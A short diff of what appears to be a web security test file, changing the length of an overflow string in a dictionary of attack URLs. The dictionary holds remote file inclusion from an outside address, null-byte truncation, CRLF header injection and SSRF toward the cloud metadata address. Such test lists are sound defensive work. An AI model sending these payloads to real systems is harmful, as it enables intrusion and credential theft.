@@ -45,7 +45,7 @@ ATTACKS = {
     "foreign_program": "/index.php?page=http://192.0.2.9/x.txt?",
     "name_cut_off": "/show?page=news%00.html",
     "answer_split": "/go?to=x%0d%0aSet-Cookie: a=b",
-    "overfilled": "/" + "A" * 500,
+    "overfilled": "/" + "A" * 1_200,
     "inner_address": "/fetch?u=http://169.254" + ".169.254/latest",
 }
 
